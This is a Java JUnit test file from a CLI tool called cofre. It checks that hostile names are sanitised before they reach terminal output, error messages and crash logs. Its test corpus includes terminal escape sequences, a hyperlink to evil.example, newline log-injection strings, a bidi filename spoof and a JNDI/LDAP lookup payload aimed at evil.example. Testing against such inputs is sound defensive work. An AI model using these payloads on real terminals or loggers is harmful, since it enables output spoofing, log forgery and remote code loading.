package dev.cofre.cli.terminal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cofre.client.failure.CofreException;
import dev.cofre.client.failure.Conflict;
import dev.cofre.client.failure.LocalState;
import dev.cofre.client.failure.Malformed;
import dev.cofre.client.failure.NotFound;
import dev.cofre.client.failure.Tampered;
import dev.cofre.client.failure.Unreachable;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Names that colleagues and servers chose, at every way out to a terminal and into a log.
@Tag("L06")
@Tag("L13")
class HostileTextTest {
  @TempDir private Path directory;

  static Stream<String> corpus() {
    return Stream.of(
        "\u001b[2J\u001b[H",
        "\u001b]0;owned\u0007",
        "\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\",
        "\u001bP+q544e\u001b\\",
        "\u009b31m",
        "name\rcofre: all is well",
        "name\ncofre: all is well",
        "a\u2028b",
        "a\u2029b",
        "a\u0085b",
        "a\u000bb\u000cc",
        "a\bb\b\b\b",
        "a\u007fb",
        "a\0b",
        "photo\u202Egpj.exe",
        "a\u2066b\u2069",
        "a\u200Eb\u200Fc",
        "a\u061Cb",
        "a\u200Bb\u200Cc\u200Dd\uFEFFe",
        "a\u00ADb",
        "a\u3164b\u115Fc\u2800d",
        "\uDB40\uDC41tag",
        "\ud800",
        "{0} {1} %s %n ${jndi:ldap://evil.example/x}");
  }

  private record Result(String name, List<String> others) {}

  private static void assertHarmless(String shown, int lines) {
    assertEquals(lines, shown.lines().count(), shown);
    shown
        .codePoints()
        .filter(c -> c != '\n')
        .forEach(c -> {
          int type = Character.getType(c);
          assertFalse(
              Character.isISOControl(c)
                  || type == Character.FORMAT
                  || type == Character.LINE_SEPARATOR
                  || type == Character.PARAGRAPH_SEPARATOR
                  || type == Character.SURROGATE
                  || c == 0x3164
                  || c == 0x115f
                  || c == 0x2800,
              () -> Integer.toHexString(c) + " in " + shown);
        });
  }

  @ParameterizedTest
  @MethodSource("corpus")
  void nothingHarmfulComesOutAsAResultOrAMessage(String name) {
    for (boolean json : new boolean[] {false, true}) {
      Stage stage = new Stage(directory);
      Terminal terminal = stage.terminal(new Terminal.Manner(json, false, false, Optional.empty()));
      terminal.result(new Result(name, List.of(name)), name);
      terminal.results(
          List.of(new Result(name, List.of())), () -> Table.left().row(name, "x", name));
      assertHarmless(stage.out(), 2);
      terminal.say("error.not-found", name);
      terminal.warn("warning.passphrase-file-open", name);
      String err = stage.err();
      assertHarmless(err, (int) err.lines().count());
      assertFalse(err.contains("\ncofre: all is well"), err);
    }
  }

  @ParameterizedTest
  @MethodSource("corpus")
  void nothingHarmfulComesOutOfAFailure(String name) {
    List<CofreException> failures =
        List.of(
            new Malformed(name),
            new Malformed(name, name),
            new Tampered(name),
            new NotFound(name),
            new Unreachable(name, name),
            new Conflict(name, name),
            new LocalState(LocalState.Kind.FILE, name, name));
    for (CofreException failure : failures) {
      for (Language language : Language.values()) {
        Stage stage = new Stage(directory);
        stage.terminal().complain(Failures.of(failure, Texts.in(language)));
        assertHarmless(stage.err(), (int) stage.err().chars().filter(c -> c == '\n').count());
      }
    }
  }

  /// A bug's trace names no message at all, so no name either.
  @ParameterizedTest
  @MethodSource("corpus")
  @Tag("G06")
  @Tag("M03")
  void nothingOfANameComesIntoALog(String name) throws Exception {
    Throwable bug = new IllegalStateException(name, new RuntimeException("secret " + name));
    bug.addSuppressed(new RuntimeException("secret " + name));
    Path log = CrashLog.write(directory.resolve("home"), Instant.EPOCH, bug).orElseThrow();
    String text = Files.readString(log);
    assertFalse(text.contains("secret") || text.contains("owned") || text.contains("jndi"), text);
    assertTrue(text.chars().allMatch(c -> c == '\n' || (c >= ' ' && c < 127)), text);
  }

  /// The words by which two people compare keys are of letters that look like themselves.
  @Test
  void wordsToCompareAreOfPlainLetters() {
    dev.cofre.client.keys.RecoveryKit kit =
        dev.cofre.client.keys.RecoveryKit.make(
            new dev.cofre.protocol.TeamId(dev.cofre.protocol.Bytes.zeros(32)),
            new dev.cofre.protocol.Head(1, dev.cofre.protocol.Hash.ZERO),
            dev.cofre.client.crypto.RandomSource.system());
    assertTrue(kit.words().stream().allMatch(word -> word.matches("[a-z]{4}")));
    kit.close();
  }
}
